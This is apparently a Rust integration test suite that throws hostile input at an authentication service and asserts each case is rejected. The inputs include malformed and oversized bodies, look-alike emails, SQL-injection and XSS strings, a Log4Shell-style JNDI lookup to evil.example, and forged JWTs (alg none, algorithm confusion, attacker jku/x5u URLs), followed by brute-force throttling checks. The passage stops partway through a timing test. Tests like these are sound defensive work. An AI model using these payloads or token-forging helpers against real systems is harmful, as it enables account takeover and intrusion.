//! The hostile suite: what people who try to get in send, each case with its exact status and
//! an exact `{"detail": ...}` body. Tables, so each row is one case; the totals are asserted.

use std::time::{Duration, Instant};

use crate::common::{
    TEST_SECRET, TUTORIAL_EMAIL, TUTORIAL_PASSWORD, TestApp, TestDatabase, assert_error, spawn_app,
    spawn_app_on_postgres, spawn_app_with, test_settings,
};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use chrono::Utc;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const NOT_AUTHENTICATED: &str = "Not authenticated";
const INVALID_TOKEN: &str = "Invalid or expired token";
const INVALID_CREDENTIALS: &str = "Invalid credentials";

/// What a case must answer: a status, and the detail exactly or by its start.
enum Expect {
    Ok(u16),
    Error(u16, &'static str),
    ErrorStarting(u16, &'static str),
}

async fn check(name: &str, response: reqwest::Response, expect: &Expect) {
    let status = response.status().as_u16();
    match expect {
        Expect::Ok(code) => assert_eq!(status, *code, "{name}"),
        Expect::Error(code, detail) => {
            assert_eq!(status, *code, "{name}");
            assert_eq!(assert_error(response, *code).await, *detail, "{name}");
        }
        Expect::ErrorStarting(code, prefix) => {
            assert_eq!(status, *code, "{name}");
            let detail = assert_error(response, *code).await;
            assert!(detail.starts_with(prefix), "{name}: {detail}");
        }
    }
}

async fn raw_post(
    app: &TestApp,
    path: &str,
    content_type: Option<&str>,
    body: Vec<u8>,
) -> reqwest::Response {
    app.post_raw(path, content_type, body).await
}

/// Sends a chunked request body by hand (no Content-Length), and returns the status line and body.
async fn chunked_post(app: &TestApp, path: &str, chunks: &[Vec<u8>]) -> (u16, String) {
    let mut stream = tokio::net::TcpStream::connect(("127.0.0.1", app.port))
        .await
        .expect("connect");
    let mut request = format!(
        "POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n\
         Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    )
    .into_bytes();
    for chunk in chunks {
        request.extend(format!("{:x}\r\n", chunk.len()).into_bytes());
        request.extend(chunk);
        request.extend(b"\r\n");
    }
    request.extend(b"0\r\n\r\n");
    // The server may answer and close before reading everything; that is fine.
    let _ = stream.write_all(&request).await;
    let mut reply = Vec::new();
    let _ = stream.read_to_end(&mut reply).await;
    let reply = String::from_utf8_lossy(&reply).into_owned();
    let status = reply
        .split_whitespace()
        .nth(1)
        .and_then(|code| code.parse().ok())
        .unwrap_or(0);
    let body = reply
        .split("\r\n\r\n")
        .nth(1)
        .unwrap_or_default()
        .to_owned();
    (status, body)
}

#[actix_web::test]
async fn hostile_bodies() {
    let (app, db) = spawn_app().await;
    let json = Some("application/json");
    let deep = format!("{}{}", "[".repeat(1500), "]".repeat(1500));
    let deep_field = format!(r#"{{"email":{deep},"password":"mypassword123"}}"#);
    let cases: Vec<(&str, Option<&str>, Vec<u8>, Expect)> = vec![
        (
            "malformed",
            json,
            b"{email: x}".to_vec(),
            Expect::ErrorStarting(400, "Malformed JSON"),
        ),
        (
            "truncated",
            json,
            br#"{"email":"a@b.co","pass"#.to_vec(),
            Expect::ErrorStarting(400, "Malformed JSON"),
        ),
        (
            "empty",
            json,
            Vec::new(),
            Expect::ErrorStarting(400, "Malformed JSON"),
        ),
        (
            "null",
            json,
            b"null".to_vec(),
            Expect::Error(422, "the request body must be a JSON object"),
        ),
        (
            "array",
            json,
            br#"["user@example.com","mypassword123"]"#.to_vec(),
            Expect::Error(422, "the request body must be a JSON object"),
        ),
        (
            "duplicate keys",
            json,
            br#"{"email":"a@example.com","email":"b@example.com","password":"mypassword123"}"#
                .to_vec(),
            Expect::Error(422, "duplicate field `email`"),
        ),
        (
            "deep nesting",
            json,
            deep.into_bytes(),
            Expect::Error(422, "the request body must be a JSON object"),
        ),
        (
            "deep nesting in a field",
            json,
            deep_field.into_bytes(),
            Expect::ErrorStarting(422, "email: invalid type: sequence"),
        ),
        (
            "invalid UTF-8",
            json,
            b"{\"email\":\"\xff\xfe@example.com\",\"password\":\"mypassword123\"}".to_vec(),
            Expect::ErrorStarting(400, "Malformed JSON"),
        ),
        (
            "no content type",
            None,
            br#"{"email":"a@example.com","password":"mypassword123"}"#.to_vec(),
            Expect::Error(415, "Content-Type must be application/json"),
        ),
        (
            "wrong content type",
            Some("text/plain"),
            br#"{"email":"a@example.com","password":"mypassword123"}"#.to_vec(),
            Expect::Error(415, "Content-Type must be application/json"),
        ),
        (
            "oversized",
            json,
            format!(
                r#"{{"email":"a@example.com","password":"{}"}}"#,
                "x".repeat(5000)
            )
            .into_bytes(),
            Expect::Error(413, "Request body is too large (at most 4096 bytes)"),
        ),
    ];
    for (name, content_type, body, expect) in &cases {
        check(
            name,
            raw_post(&app, "/signup", *content_type, body.clone()).await,
            expect,
        )
        .await;
    }
    // Chunked, so no Content-Length announces the size: counted as it arrives.
    let (status, body) = chunked_post(&app, "/signup", &vec![vec![b' '; 1024]; 6]).await;
    assert_eq!(status, 413, "chunked-oversized: {body}");
    assert_eq!(
        body,
        r#"{"detail":"Request body is too large (at most 4096 bytes)"}"#
    );
    assert!(
        db.event_types().await.is_empty(),
        "no hostile body created anything"
    );
    eprintln!("hostile bodies: {} cases", cases.len() + 1);
}

#[actix_web::test]
async fn hostile_fields_and_look_alike_emails() {
    let (app, db) = spawn_app().await;
    let signup = |body: Value| {
        let app = &app;
        async move { app.post_json("/signup", &body).await }
    };
    let cases: Vec<(&str, Value, Expect)> = vec![
        (
            "missing email",
            json!({"password": "mypassword123"}),
            Expect::Error(422, "missing field `email`"),
        ),
        (
            "missing password",
            json!({"email": "a@example.com"}),
            Expect::Error(422, "missing field `password`"),
        ),
        (
            "null email",
            json!({"email": null, "password": "mypassword123"}),
            Expect::ErrorStarting(422, "email: invalid type: null"),
        ),
        (
            "number email",
            json!({"email": 5, "password": "mypassword123"}),
            Expect::ErrorStarting(422, "email: invalid type: integer"),
        ),
        (
            "object password",
            json!({"email": "a@example.com", "password": {"$gt": ""}}),
            Expect::ErrorStarting(422, "password: invalid type: map"),
        ),
        (
            "no @",
            json!({"email": "user.example.com", "password": "mypassword123"}),
            Expect::Error(422, "email: is not a valid email address"),
        ),
        (
            "double @",
            json!({"email": "user@@example.com", "password": "mypassword123"}),
            Expect::Error(422, "email: is not a valid email address"),
        ),
        (
            "inner space",
            json!({"email": "us er@example.com", "password": "mypassword123"}),
            Expect::Error(422, "email: is not a valid email address"),
        ),
        (
            "300 characters",
            json!({"email": format!("{}@example.com", "a".repeat(288)), "password": "mypassword123"}),
            Expect::Error(422, "email: must be at most 254 bytes"),
        ),
        (
            "NUL",
            json!({"email": "user\u{0}@example.com", "password": "mypassword123"}),
            Expect::Error(
                422,
                "email: must not contain invisible or control characters",
            ),
        ),
        (
            "quoted local part",
            json!({"email": "\"user\"@example.com", "password": "mypassword123"}),
            Expect::Error(422, "email: must be a plain address: no quoted local part"),
        ),
        (
            "an IPv4 address as the domain",
            json!({"email": "ip@127.0.0.1", "password": "mypassword123"}),
            Expect::Error(422, NOT_A_HOSTNAME),
        ),
        (
            "an underscore in the domain",
            json!({"email": "u@ex_ample.com", "password": "mypassword123"}),
            Expect::Error(422, NOT_A_HOSTNAME),
        ),
        (
            "a numeric last label",
            json!({"email": "nt@example.123", "password": "mypassword123"}),
            Expect::Error(422, NOT_A_HOSTNAME),
        ),
        (
            "a domain literal",
            json!({"email": "user@[127.0.0.1]", "password": "mypassword123"}),
            Expect::Error(422, "email: is not a valid email address"),
        ),
    ];
    for (name, body, expect) in &cases {
        check(name, signup(body.clone()).await, expect).await;
    }

    // One account, whatever the spelling.
    assert_eq!(
        app.signup(TUTORIAL_EMAIL, TUTORIAL_PASSWORD).await.status(),
        201
    );
    let spellings: [(&str, &str, Expect); 7] = [
        (
            "upper case",
            "USER@EXAMPLE.COM",
            Expect::Error(409, "User already exists"),
        ),
        (
            "surrounding spaces",
            "  user@example.com\t",
            Expect::Error(409, "User already exists"),
        ),
        (
            "fullwidth",
            "ｕｓｅｒ@ｅｘａｍｐｌｅ.ｃｏｍ",
            Expect::Error(409, "User already exists"),
        ),
        (
            "zero-width space",
            "us\u{200B}er@example.com",
            Expect::Error(
                422,
                "email: must not contain invisible or control characters",
            ),
        ),
        (
            "zero-width joiner",
            "user@exam\u{200D}ple.com",
            Expect::Error(
                422,
                "email: must not contain invisible or control characters",
            ),
        ),
        (
            "a Cyrillic е in the local part",
            "us\u{0435}r@example.com",
            Expect::Error(422, MIXED_SCRIPTS),
        ),
        (
            "a Cyrillic а in the domain",
            "user@ex\u{0430}mple.com",
            Expect::Error(422, MIXED_SCRIPTS),
        ),
    ];
    for (name, email, expect) in &spellings {
        check(name, app.signup(email, "another-password-9").await, expect).await;
    }
    let registrations = db
        .event_types()
        .await
        .iter()
        .filter(|(event_type, _)| event_type == "UserRegistered")
        .count();
    assert_eq!(registrations, 1, "never a second account");
    // And the look-alike logs in to the one account.
    assert_eq!(
        app.login("ｕｓｅｒ@ｅｘａｍｐｌｅ.ｃｏｍ", TUTORIAL_PASSWORD)
            .await
            .status(),
        200
    );
    // An internationalised domain has one form, whichever way it is written.
    assert_eq!(
        app.signup("idn@bücher.de", TUTORIAL_PASSWORD)
            .await
            .status(),
        201
    );
    check(
        "the same domain in ASCII",
        app.signup("idn@xn--bcher-kva.de", "another-password-9")
            .await,
        &Expect::Error(409, "User already exists"),
    )
    .await;
    assert_eq!(
        app.login("IDN@XN--BCHER-KVA.DE", TUTORIAL_PASSWORD)
            .await
            .status(),
        200
    );
    eprintln!(
        "hostile fields: {} cases",
        cases.len() + spellings.len() + 2
    );
}

const NOT_A_HOSTNAME: &str = "email: must have a domain name made of letters, digits and hyphens, with a name as its last label";
const MIXED_SCRIPTS: &str = "email: must not mix scripts (such as Latin and Cyrillic) in one part";

#[actix_web::test]
async fn hostile_passwords() {
    let (app, _db) = spawn_app().await;
    let too_short = Expect::Error(422, "password: must be at least 8 bytes");
    let too_long = Expect::Error(
        422,
        "password: must be at most 72 bytes (bcrypt ignores the rest)",
    );
    let cases: Vec<(&str, String, Expect)> = vec![
        ("0 bytes", String::new(), too_short),
        (
            "7 bytes",
            "k3#zq9!".to_owned(),
            Expect::Error(422, "password: must be at least 8 bytes"),
        ),
        ("8 bytes", "k3#zq9!w".to_owned(), Expect::Ok(201)),
        ("64 bytes", "k3#zq9!w".repeat(8), Expect::Ok(201)),
        ("72 bytes", "k3#zq9!w".repeat(9), Expect::Ok(201)),
        ("73 bytes", format!("{}x", "k3#zq9!w".repeat(9)), too_long),
        (
            "multibyte ending at 72",
            format!("{}€", "k".repeat(69)),
            Expect::Ok(201),
        ),
        (
            "multibyte straddling 72",
            format!("{}€", "k".repeat(70)),
            Expect::Error(
                422,
                "password: must be at most 72 bytes (bcrypt ignores the rest)",
            ),
        ),
        (
            "NUL in the middle",
            "k3#zq\u{0}9!w".to_owned(),
            Expect::Ok(201),
        ),
        (
            "leading and trailing spaces",
            "  k3#zq9!w  ".to_owned(),
            Expect::Ok(201),
        ),
        (
            "common password",
            "password123".to_owned(),
            Expect::Error(
                422,
                "password: is one of the most common passwords; choose another",
            ),
        ),
    ];
    for (i, (name, password, expect)) in cases.iter().enumerate() {
        let email = format!("p{i}@example.com");
        check(name, app.signup(&email, password).await, expect).await;
        if matches!(expect, Expect::Ok(_)) {
            // Compared exactly: the very same bytes log in, a trimmed or truncated copy does not.
            assert_eq!(app.login(&email, password).await.status(), 200, "{name}");
            let trimmed = password.trim();
            if trimmed != password {
                check(
                    name,
                    app.login(&email, trimmed).await,
                    &Expect::Error(401, INVALID_CREDENTIALS),
                )
                .await;
            }
            let cut: String = password.replace('\u{0}', "");
            if cut != *password {
                check(
                    name,
                    app.login(&email, &cut).await,
                    &Expect::Error(401, INVALID_CREDENTIALS),
                )
                .await;
            }
        }
    }
    eprintln!("hostile passwords: {} cases", cases.len());
}

#[actix_web::test]
async fn injection_looking_input_is_just_data() {
    let (app, db) = spawn_app_on_postgres().await;
    let inputs = [
        ("' OR '1'='1'--@example.com", "' OR '1'='1"),
        ("robert@example.com", "'); DROP TABLE events; --"),
        ("x@example.com", "\" } ] ; DELETE FROM events ; --"),
        ("y@example.com", "${jndi:ldap://evil.example/a}"),
        ("z@example.com", "<script>alert(1)</script>"),
    ];
    for (email, password) in inputs {
        let status = app.signup(email, password).await.status().as_u16();
        assert!(status == 201 || status == 422, "{email}: {status}");
        let status = app.login(email, password).await.status().as_u16();
        assert!(status == 200 || status == 401, "{email}: {status}");
    }
    // The table is intact and still append-only.
    let events = db.event_types().await;
    assert!(
        events.iter().any(|(t, _)| t == "UserRegistered"),
        "{events:?}"
    );
    let error = db.client().await.batch_execute("DELETE FROM events").await;
    assert!(error.is_err(), "still append-only");
    eprintln!("injection-looking input: {} cases", inputs.len());
}

// ---- tokens ----

fn b64(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string())
}

/// A token with exactly this header and these claims, signed with HS256 and `key`.
pub(crate) fn forge_hs256(header: &Value, claims: &Value, key: &[u8]) -> String {
    let input = format!("{}.{}", b64(header), b64(claims));
    let signature = jsonwebtoken::crypto::sign(
        input.as_bytes(),
        &EncodingKey::from_secret(key),
        Algorithm::HS256,
    )
    .expect("sign");
    format!("{input}.{signature}")
}

/// A token with exactly this header and these claims, signed with this Ed25519 key.
pub(crate) fn forge(header: &Value, claims: &Value, key: &ed25519_dalek::SigningKey) -> String {
    use ed25519_dalek::Signer as _;
    let input = format!("{}.{}", b64(header), b64(claims));
    let signature = key.sign(input.as_bytes());
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature.to_bytes()))
}

pub(crate) fn claims(user_id: &str, sid: &str, email: &str, exp_offset: i64) -> Value {
    let now = Utc::now().timestamp();
    json!({
        "iss": "authlog", "aud": "authlog", "sub": user_id, "email": email,
        "iat": now, "nbf": now, "exp": now + exp_offset, "jti": uuid::Uuid::new_v4(),
        "sid": sid,
    })
}

#[actix_web::test]
async fn hostile_tokens() {
    let (app, _db) = spawn_app().await;
    let body: Value = app
        .signup(TUTORIAL_EMAIL, TUTORIAL_PASSWORD)
        .await
        .json()
        .await
        .expect("json");
    let user = body["id"].as_str().expect("id").to_owned();
    // A live session of the user's, so that only the property under test is wrong.
    let login = app.token_for(TUTORIAL_EMAIL, TUTORIAL_PASSWORD).await;
    let sid = crate::common::claims_of(&login)["sid"]
        .as_str()
        .expect("sid")
        .to_owned();
    // The app's own signing key: the forgeries below differ from a real token only where
    // each case says.
    let (kid, key) = app.signing_key();
    let kid = kid.as_str().to_owned();
    let public = key.verifying_key().to_bytes();
    let eddsa = json!({"alg": "EdDSA", "typ": "JWT", "kid": kid});
    let with_header = |extra: Value| {
        let mut header = eddsa.clone();
        for (name, value) in extra.as_object().expect("object") {
            header[name] = value.clone();
        }
        forge(&header, &claims(&user, &sid, TUTORIAL_EMAIL, 600), &key)
    };
    let good = forge(&eddsa, &claims(&user, &sid, TUTORIAL_EMAIL, 600), &key);
    let with = |f: &dyn Fn(&mut Value)| {
        let mut c = claims(&user, &sid, TUTORIAL_EMAIL, 600);
        f(&mut c);
        forge(&eddsa, &c, &key)
    };
    let unsigned = |alg: &str| {
        format!(
            "{}.{}.",
            b64(&json!({"alg": alg, "typ": "JWT", "kid": kid})),
            b64(&claims(&user, &sid, TUTORIAL_EMAIL, 600))
        )
    };
    let (head, rest) = good.split_once('.').expect("segments");
    let (payload, signature) = rest.split_once('.').expect("segments");
    let mut flipped = signature.as_bytes().to_vec();
    flipped[0] = if flipped[0] == b'A' { b'B' } else { b'A' };
    let flipped = format!(
        "{head}.{payload}.{}",
        String::from_utf8(flipped).expect("ascii")
    );
    let rs256 = format!(
        "{}.{payload}.{}",
        b64(&json!({"alg": "RS256", "typ": "JWT", "kid": kid})),
        URL_SAFE_NO_PAD.encode([7u8; 256])
    );
    let impostor = ed25519_dalek::SigningKey::from_bytes(&[9; 32]);
    let impostor_kid =
        authlog::domain::KeyId::thumbprint_ed25519(impostor.verifying_key().as_bytes());
    let hs256_on = |kid: Option<&str>, secret: &[u8]| {
        let header = match kid {
            Some(kid) => json!({"alg": "HS256", "typ": "JWT", "kid": kid}),
            None => json!({"alg": "HS256", "typ": "JWT"}),
        };
        forge_hs256(&header, &claims(&user, &sid, TUTORIAL_EMAIL, 600), secret)
    };
    let cases: Vec<(&str, String, Expect)> = vec![
        ("valid", good.clone(), Expect::Ok(200)),
        (
            "alg none",
            unsigned("none"),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "alg None",
            unsigned("None"),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "alg NONE",
            unsigned("NONE"),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "HS256 keyed with the public key's bytes, naming the Ed25519 key (alg confusion)",
            hs256_on(Some(&kid), &public),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "HS256 keyed with the JWKS's x, naming the Ed25519 key (alg confusion)",
            hs256_on(Some(&kid), URL_SAFE_NO_PAD.encode(public).as_bytes()),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "HS256 keyed with the public key's bytes, no kid",
            hs256_on(None, &public),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "HS256 with the tests' HS256 secret, which this app is not given",
            hs256_on(None, TEST_SECRET.as_bytes()),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "the tutorial's your-secret-key",
            hs256_on(None, b"your-secret-key"),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "RS256 (attacker's key; never verified as RSA)",
            rs256,
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "another Ed25519 key under the app's kid",
            forge(&eddsa, &claims(&user, &sid, TUTORIAL_EMAIL, 600), &impostor),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "an unknown kid (the attacker's own key's thumbprint)",
            forge(
                &json!({"alg": "EdDSA", "typ": "JWT", "kid": impostor_kid.as_str()}),
                &claims(&user, &sid, TUTORIAL_EMAIL, 600),
                &impostor,
            ),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "no kid",
            forge(
                &json!({"alg": "EdDSA", "typ": "JWT"}),
                &claims(&user, &sid, TUTORIAL_EMAIL, 600),
                &key,
            ),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "kid as a path",
            forge(
                &json!({"alg": "EdDSA", "kid": "../../dev/null"}),
                &claims(&user, &sid, TUTORIAL_EMAIL, 600),
                &key,
            ),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "kid as SQL",
            forge(
                &json!({"alg": "EdDSA", "kid": "x' OR '1'='1"}),
                &claims(&user, &sid, TUTORIAL_EMAIL, 600),
                &key,
            ),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "expired, within the 30 s leeway",
            with(&|c| c["exp"] = json!(Utc::now().timestamp() - 10)),
            Expect::Ok(200),
        ),
        (
            "expired, beyond the leeway",
            with(&|c| c["exp"] = json!(Utc::now().timestamp() - 40)),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "nbf in the future",
            with(&|c| c["nbf"] = json!(Utc::now().timestamp() + 120)),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "missing iss",
            with(&|c| {
                c.as_object_mut().expect("object").remove("iss");
            }),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "wrong iss",
            with(&|c| c["iss"] = json!("someone-else")),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "missing aud",
            with(&|c| {
                c.as_object_mut().expect("object").remove("aud");
            }),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "wrong aud",
            with(&|c| c["aud"] = json!("another-api")),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "string exp",
            with(&|c| c["exp"] = json!("9999999999")),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "flipped signature byte",
            flipped,
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "two segments",
            format!("{head}.{payload}"),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "four segments",
            format!("{good}.{signature}"),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "unknown sub",
            forge(
                &eddsa,
                &claims(&uuid::Uuid::new_v4().to_string(), &sid, TUTORIAL_EMAIL, 600),
                &key,
            ),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "non-UUID sub",
            forge(&eddsa, &claims("1", &sid, TUTORIAL_EMAIL, 600), &key),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "no sid",
            with(&|c| {
                c.as_object_mut().expect("object").remove("sid");
            }),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "a sid no session has",
            with(&|c| c["sid"] = json!(uuid::Uuid::new_v4())),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "non-UUID sid",
            with(&|c| c["sid"] = json!("1")),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "jku header (keys from the attacker's URL)",
            with_header(json!({"jku": "https://evil.example/jwks"})),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "x5u header (a certificate from the attacker's URL)",
            with_header(json!({"x5u": "https://evil.example/cert.pem"})),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "jwk header (the attacker's key, embedded)",
            forge(
                &json!({"alg": "EdDSA", "kid": impostor_kid.as_str(), "jwk": {
                    "kty": "OKP", "crv": "Ed25519",
                    "x": URL_SAFE_NO_PAD.encode(impostor.verifying_key().as_bytes()),
                }}),
                &claims(&user, &sid, TUTORIAL_EMAIL, 600),
                &impostor,
            ),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "jwk header naming the real key",
            with_header(json!({"jwk": {"kty": "OKP", "crv": "Ed25519",
                "x": URL_SAFE_NO_PAD.encode(public)}})),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "x5c header",
            with_header(json!({"x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]})),
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "crit header",
            with_header(json!({"crit": ["exp"]})),
            Expect::Error(401, INVALID_TOKEN),
        ),
    ];
    for (name, token, expect) in &cases {
        check(
            name,
            app.profile(Some(&format!("Bearer {token}"))).await,
            expect,
        )
        .await;
    }

    // The Authorization header itself.
    let headers: Vec<(&str, Vec<String>, Expect)> = vec![
        ("missing", vec![], Expect::Error(401, NOT_AUTHENTICATED)),
        (
            "Bearer alone",
            vec!["Bearer".into()],
            Expect::Error(401, NOT_AUTHENTICATED),
        ),
        (
            "Bearer and a space",
            vec!["Bearer ".into()],
            Expect::Error(401, NOT_AUTHENTICATED),
        ),
        (
            "lower-case scheme",
            vec![format!("bearer {good}")],
            Expect::Ok(200),
        ),
        (
            "Basic",
            vec!["Basic dXNlcjpwYXNz".into()],
            Expect::Error(401, NOT_AUTHENTICATED),
        ),
        (
            "double space",
            vec![format!("Bearer  {good}")],
            Expect::Ok(200),
        ),
        (
            "trailing word",
            vec![format!("Bearer {good} extra")],
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "two headers",
            vec![format!("Bearer {good}"), format!("Bearer {good}")],
            Expect::Error(401, INVALID_TOKEN),
        ),
        (
            "100 KiB token",
            vec![format!("Bearer {}", "a".repeat(100 * 1024))],
            Expect::Error(401, INVALID_TOKEN),
        ),
    ];
    for (name, values, expect) in &headers {
        let mut request = app.http.get(app.url("/profile"));
        for value in values {
            request = request.header("Authorization", value);
        }
        let response = request.send().await.expect("sent");
        if let Expect::Error(401, _) = expect {
            assert!(
                response.headers().contains_key("www-authenticate"),
                "{name}"
            );
        }
        check(name, response, expect).await;
    }
    // Tokens anywhere but the Authorization header are not read.
    let response = app
        .http
        .get(app.url(&format!("/profile?access_token={good}")))
        .send()
        .await
        .expect("sent");
    check(
        "query string",
        response,
        &Expect::Error(401, NOT_AUTHENTICATED),
    )
    .await;
    let response = app
        .http
        .get(app.url("/profile"))
        .header("Cookie", format!("access_token={good}"))
        .send()
        .await
        .expect("sent");
    check("cookie", response, &Expect::Error(401, NOT_AUTHENTICATED)).await;
    eprintln!("hostile tokens: {} cases", cases.len() + headers.len() + 2);
}

// ---- brute force ----

#[actix_web::test]
async fn brute_force_is_throttled_per_account_and_address_even_with_the_right_password() {
    let (app, _db) = spawn_app().await;
    assert_eq!(
        app.signup(TUTORIAL_EMAIL, TUTORIAL_PASSWORD).await.status(),
        201
    );
    assert_eq!(
        app.signup("other@example.com", TUTORIAL_PASSWORD)
            .await
            .status(),
        201
    );
    for _ in 0..5 {
        check(
            "guess",
            app.login(TUTORIAL_EMAIL, "wrong-guess-1").await,
            &Expect::Error(401, INVALID_CREDENTIALS),
        )
        .await;
    }
    // Locked: even the right password gets 429, so the throttle cannot be used as an oracle.
    for password in ["wrong-guess-2", TUTORIAL_PASSWORD] {
        let response = app.login(TUTORIAL_EMAIL, password).await;
        let retry: u64 = response.headers()["retry-after"]
            .to_str()
            .expect("ascii")
            .parse()
            .expect("seconds");
        assert!((1..=30).contains(&retry), "{retry}");
        check(
            "locked",
            response,
            &Expect::Error(429, "Too many failed login attempts; retry in 30 seconds"),
        )
        .await;
    }
    // Rotating X-Forwarded-For changes nothing: no proxy is trusted.
    for i in 0..5 {
        let response = app
            .http
            .post(app.url("/login"))
            .header("X-Forwarded-For", format!("203.0.113.{i}"))
            .json(&json!({"email": TUTORIAL_EMAIL, "password": TUTORIAL_PASSWORD}))
            .send()
            .await
            .expect("sent");
        check(
            "rotated X-Forwarded-For",
            response,
            &Expect::ErrorStarting(429, "Too many failed login attempts"),
        )
        .await;
    }
    // Another account logs in meanwhile, from the same address.
    assert_eq!(
        app.login("other@example.com", TUTORIAL_PASSWORD)
            .await
            .status(),
        200
    );
    // Unknown emails are throttled the same way, so a 429 says nothing about existence.
    for _ in 0..5 {
        check(
            "unknown",
            app.login("nobody@example.com", "wrong-guess-1").await,
            &Expect::Error(401, INVALID_CREDENTIALS),
        )
        .await;
    }
    check(
        "unknown locked",
        app.login("nobody@example.com", "wrong-guess-1").await,
        &Expect::Error(429, "Too many failed login attempts; retry in 30 seconds"),
    )
    .await;
}

#[actix_web::test]
async fn a_burst_of_parallel_guesses_cannot_outrun_the_throttle() {
    let (app, db) = spawn_app().await;
    assert_eq!(
        app.signup(TUTORIAL_EMAIL, TUTORIAL_PASSWORD).await.status(),
        201
    );
    let guesses = (0..40).map(|i| {
        app.login(
            TUTORIAL_EMAIL,
            if i == 39 {
                TUTORIAL_PASSWORD
            } else {
                "wrong-guess-1"
            },
        )
    });
    let statuses: Vec<u16> = futures_util::future::join_all(guesses)
        .await
        .iter()
        .map(|r| r.status().as_u16())
        .collect();
    let checked = statuses.iter().filter(|s| **s == 401 || **s == 200).count();
    assert!(checked <= 5, "at most 5 guesses were checked: {statuses:?}");
    assert!(
        statuses.iter().all(|s| [200, 401, 429].contains(s)),
        "{statuses:?}"
    );
    let failures = db
        .event_types()
        .await
        .iter()
        .filter(|(t, _)| t == "LoginFailed")
        .count();
    assert_eq!(failures, statuses.iter().filter(|s| **s == 401).count());
}

#[actix_web::test]
async fn signups_per_address_are_limited_and_the_throttle_survives_a_restart() {
    let db = TestDatabase::create().await;
    let mut settings = test_settings(db.store_settings());
    settings.throttle.signups_per_minute = 3;
    let app = spawn_app_with(settings.clone()).await;
    for i in 0..3 {
        assert_eq!(
            app.signup(&format!("s{i}@example.com"), TUTORIAL_PASSWORD)
                .await
                .status(),
            201
        );
    }
    let response = app.signup("s3@example.com", TUTORIAL_PASSWORD).await;
    assert!(response.headers().contains_key("retry-after"));
    check(
        "fourth sign-up",
        response,
        &Expect::ErrorStarting(429, "Too many sign-ups from this address; retry in"),
    )
    .await;
    for _ in 0..5 {
        assert_eq!(
            app.login("s0@example.com", "wrong-guess-1").await.status(),
            401
        );
    }
    // A second instance on the same log (as after a restart) derives the same state.
    let restarted = spawn_app_with(settings).await;
    check(
        "after restart",
        restarted.signup("s4@example.com", TUTORIAL_PASSWORD).await,
        &Expect::ErrorStarting(429, "Too many sign-ups"),
    )
    .await;
    check(
        "after restart",
        restarted.login("s0@example.com", TUTORIAL_PASSWORD).await,
        &Expect::ErrorStarting(429, "Too many failed login attempts"),
    )
    .await;
}

#[actix_web::test]
async fn a_weak_stored_hash_is_rehashed_at_the_next_login() {
    let db = TestDatabase::create().await;
    let app = spawn_app_with(test_settings(db.store_settings())).await; // cost 4
    assert_eq!(
        app.signup(TUTORIAL_EMAIL, TUTORIAL_PASSWORD).await.status(),
        201
    );
    let mut stronger = test_settings(db.store_settings());
    stronger.bcrypt_cost = 5;
    let app = spawn_app_with(stronger).await;
    assert_eq!(
        app.login(TUTORIAL_EMAIL, TUTORIAL_PASSWORD).await.status(),
        200
    );
    assert_eq!(
        app.login(TUTORIAL_EMAIL, TUTORIAL_PASSWORD).await.status(),
        200
    );
    let events = db.event_types().await;
    let types: Vec<&str> = events.iter().map(|(t, _)| t.as_str()).collect();
    assert_eq!(
        types,
        [
            "UserRegistered",
            "LoginSucceeded",
            "PasswordRehashed",
            "SessionStarted",
            "LoginSucceeded",
            "SessionStarted"
        ]
    );
    let hash = db
        .events()
        .await
        .into_iter()
        .find_map(|event| match event.event {
            authlog::events::Event::PasswordRehashed(rehashed) => Some(rehashed.password_hash),
            _ => None,
        })
        .expect("a PasswordRehashed event");
    assert!(
        hash.as_str().starts_with("$2b$05$"),
        "rehashed at the new cost"
    );
}

/// Unknown email and wrong password take the same time: bcrypt runs either way. The machine is
/// shared and noisy, so the bound is loose (a factor of 1.5 between medians) and the figures
/// are printed.
#[actix_web::test]
async fn unknown_email_and_wrong_password_take_the_same_time() {
    let db = TestDatabase::create().await;
    let mut settings = test_settings(db.store_settings());
